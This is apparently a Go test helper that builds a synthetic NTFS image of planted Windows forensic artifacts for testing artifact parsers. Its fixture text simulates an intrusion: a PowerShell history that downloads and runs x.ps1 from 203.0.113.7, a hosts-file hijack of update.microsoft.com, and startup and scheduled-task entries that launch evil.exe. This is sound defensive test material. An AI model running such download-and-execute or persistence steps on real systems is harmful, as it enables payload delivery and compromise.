package ntfstest

import (
	"crypto/sha256"
	"encoding/binary"
	"math/rand/v2"
	"time"
)

// builderVersion is part of the cache key: change it whenever what Build
// makes changes, so that no test reads a stale cached image.
const builderVersion = "ntfstest-1"

// The registry hive: a real NTUSER.DAT from regparser's test data,
// fetched through the module proxy at a pinned version.
const (
	hiveModule = "www.velocidex.com/golang/regparser"
	hiveVer    = "v0.0.0-20250203141505-31e704a67ef7"
	hiveFile   = "testdata/NTUSER.DAT"
	hiveSHA256 = "4a3232850f9677de96774b4de0020ac7f5e2efeb5e4576a200bb751d9e1c9d1d"
)

// SID is the user SID of the planted $Recycle.Bin folder.
const SID = "S-1-5-21-3623811015-3361044348-30300820-1013"

// plant is one file the builder writes.
type plant struct {
	path   string
	family string
	hive   bool   // the content is the real hive
	magic  string // the first bytes of a synthetic content
	size   int    // synthetic content size
	text   string // literal content (overrides magic and size)
	stream string // a named stream of path written as an xattr, with text
}

const (
	alice = "Users/alice/"
	local = alice + "AppData/Local/"
	roam  = alice + "AppData/Roaming/"
	// Special files, checked by the builder after unmounting.
	fragmentedPath = alice + "Documents/fragmented.bin"
	sparsePath     = alice + "Documents/sparse.vhd"
	deletedPath    = alice + "Desktop/deleted-secret.txt"
	downloadPath   = alice + "Downloads/invoice.pdf.exe"
)

// hives lists the registry hives; each is planted with .LOG1 and .LOG2.
var hives = []string{
	"Windows/System32/config/SYSTEM",
	"Windows/System32/config/SOFTWARE",
	"Windows/System32/config/SAM",
	"Windows/System32/config/SECURITY",
	"Windows/System32/config/DEFAULT",
	alice + "NTUSER.DAT",
	local + "Microsoft/Windows/UsrClass.dat",
	"Users/bob/NTUSER.DAT",
	"Windows/AppCompat/Programs/Amcache.hve",
}

func plants() []plant {
	var ps []plant
	for _, h := range hives {
		ps = append(ps,
			plant{path: h, family: "registry", hive: true},
			plant{path: h + ".LOG1", family: "registry", magic: "DIRT", size: 8192},
			plant{path: h + ".LOG2", family: "registry", magic: "DIRT", size: 4096})
	}
	const evtx = "ElfFile\x00"
	ps = append(ps,
		plant{path: "Windows/System32/winevt/Logs/System.evtx", family: "evtx", magic: evtx, size: 69632},
		plant{path: "Windows/System32/winevt/Logs/Security.evtx", family: "evtx", magic: evtx, size: 69632},
		plant{path: "Windows/System32/winevt/Logs/Microsoft-Windows-PowerShell%4Operational.evtx", family: "evtx", magic: evtx, size: 69632},
		plant{path: "Windows/Prefetch/CMD.EXE-0BD30981.pf", family: "prefetch", magic: "MAM\x04", size: 3000},
		plant{path: "Windows/Prefetch/EVIL.EXE-1A2B3C4D.pf", family: "prefetch", magic: "MAM\x04", size: 2500},
		plant{path: "Windows/AppCompat/Programs/RecentFileCache.bcf", family: "recentfilecache", magic: "\xfe\xff\xee\xff", size: 900},
		plant{path: "Windows/System32/sru/SRUDB.dat", family: "srum", magic: "\x00\x00\x00\x00\xef\xcd\xab\x89", size: 65536},
		plant{path: "Windows/System32/wbem/Repository/OBJECTS.DATA", family: "wmi", magic: "\x00", size: 40960},
		plant{path: "Windows/System32/wbem/Repository/INDEX.BTR", family: "wmi", magic: "\x00", size: 16384},
		plant{path: "Windows/System32/wbem/Repository/MAPPING1.MAP", family: "wmi", magic: "\xdd\xdd\xdd\xdd", size: 2048},
		plant{path: "Windows/System32/Tasks/EvilUpdater", family: "tasks", text: taskXML},
		plant{path: "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/updater.lnk", family: "startup", magic: lnkMagic, size: 1200},
		plant{path: roam + "Microsoft/Windows/Start Menu/Programs/Startup/run.bat", family: "startup", text: "@echo off\r\nstart /b C:\\Users\\Public\\evil.exe\r\n"},
		plant{path: roam + "Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", family: "psreadline",
			text: "whoami /all\r\nInvoke-WebRequest http://203.0.113.7/x.ps1 -OutFile x.ps1\r\n.\\x.ps1\r\n"},
		plant{path: roam + "Microsoft/Windows/Recent/invoice.pdf.lnk", family: "lnk", magic: lnkMagic, size: 1500},
		plant{path: roam + "Microsoft/Windows/Recent/AutomaticDestinations/5f7b5f1e01b83767.automaticDestinations-ms", family: "jumplist", magic: "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", size: 8192},
		plant{path: roam + "Microsoft/Windows/Recent/CustomDestinations/28c8b86deab549a1.customDestinations-ms", family: "jumplist", magic: "\x02\x00\x00\x00", size: 3000},
		plant{path: "$Recycle.Bin/" + SID + "/$IR2K4QD.docx", family: "recyclebin", magic: "\x02\x00\x00\x00\x00\x00\x00\x00", size: 96},
		plant{path: "$Recycle.Bin/" + SID + "/$RR2K4QD.docx", family: "recyclebin", magic: "PK\x03\x04", size: 12000},
		plant{path: local + "ConnectedDevicesPlatform/L.alice/ActivitiesCache.db", family: "timeline", magic: sqlite, size: 32768},
		plant{path: local + "Google/Chrome/User Data/Default/History", family: "browser", magic: sqlite, size: 20480},
		plant{path: local + "Microsoft/Edge/User Data/Default/History", family: "browser", magic: sqlite, size: 20480},
		plant{path: roam + "Mozilla/Firefox/Profiles/x1y2z3ab.default-release/places.sqlite", family: "browser", magic: sqlite, size: 65536},
		plant{path: "Windows/System32/drivers/etc/hosts", family: "hosts", text: "127.0.0.1 localhost\r\n203.0.113.7 update.microsoft.com\r\n"},
		plant{path: "Windows/INF/setupapi.dev.log", family: "setupapi", text: "[Device Install Log]\r\n     OS Version = 10.0.19045\r\n>>>  [Device Install (Hardware initiated) - USBSTOR\\Disk&Ven_Evil]\r\n"},
		plant{path: "ProgramData/Microsoft/Windows/WER/ReportArchive/AppCrash_evil.exe_1a2b/Report.wer", family: "wer", text: "Version=1\r\nEventType=APPCRASH\r\nAppPath=C:\\Users\\Public\\evil.exe\r\n"},
		plant{path: downloadPath, family: "download", magic: "MZ", size: 30000},
		plant{path: downloadPath, stream: "Zone.Identifier", family: "download",
			text: "[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=http://203.0.113.7/\r\nHostUrl=http://203.0.113.7/invoice.pdf.exe\r\n"},
		plant{path: alice + "Documents/résumé – copie.txt", family: "names", text: "a name that is not ASCII\r\n"},
		plant{path: sparsePath, family: "sparse"},                                         // written by the builder: a hole, then data
		plant{path: fragmentedPath, family: "fragmented", magic: "FRAG", size: 256 << 10}, // written in the holes
	)
	return ps
}

// deletedText is the content of the file deleted before unmounting;
// small, so that it stays resident in its (freed) MFT record.
const deletedText = "the attacker deleted this file before the image was taken\r\n"

// sparseHole and sparseTail make the sparse file: sparseHole bytes never
// written, then sparseTail.
const (
	sparseHole = 4 << 20
	sparseTail = "data after a 4 MiB hole\r\n"
)

const (
	lnkMagic = "\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
	sqlite   = "SQLite format 3\x00"
	taskXML  = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n" +
		"  <Actions Context=\"Author\"><Exec><Command>C:\\Users\\Public\\evil.exe</Command></Exec></Actions>\r\n</Task>\r\n"
)

// content is the planted bytes of p (hive is the real hive's bytes).
func (p plant) content(hive []byte) []byte {
	switch {
	case p.hive:
		return hive
	case p.text != "":
		return []byte(p.text)
	case p.family == "sparse":
		b := make([]byte, sparseHole+len(sparseTail))
		copy(b[sparseHole:], sparseTail)
		return b
	}
	b := make([]byte, p.size)
	seed := sha256.Sum256([]byte(p.path))
	r := rand.NewChaCha8(seed)
	_, _ = r.Read(b)
	copy(b, p.magic)
	return b
}

// plantTimes are the $STANDARD_INFORMATION times of the i-th plant:
// different for every file and every time, with a fraction of a second
// in 100 ns units.
func plantTimes(i int) (created, modified, accessed time.Time) {
	base := time.Date(2024, 3, 1, 8, 0, 0, 0, time.UTC).Add(time.Duration(i) * 7 * time.Hour)
	frac := time.Duration(1234567+i) * 100
	return base.Add(frac), base.Add(time.Hour + frac), base.Add(2*time.Hour + frac)
}

// filetime is t as an NTFS time: 100 ns intervals since 1601-01-01 UTC.
func filetime(t time.Time) uint64 {
	const epochDelta = 116444736000000000 // 1601 to 1970 in 100 ns
	return uint64(t.UnixNano()/100 + epochDelta)
}

// ntfsTimes is the value of ntfs-3g's system.ntfs_times attribute:
// creation, modification, access (the MFT change time cannot be set).
func ntfsTimes(c, m, a time.Time) []byte {
	b := make([]byte, 24)
	binary.LittleEndian.PutUint64(b, filetime(c))
	binary.LittleEndian.PutUint64(b[8:], filetime(m))
	binary.LittleEndian.PutUint64(b[16:], filetime(a))
	return b
}
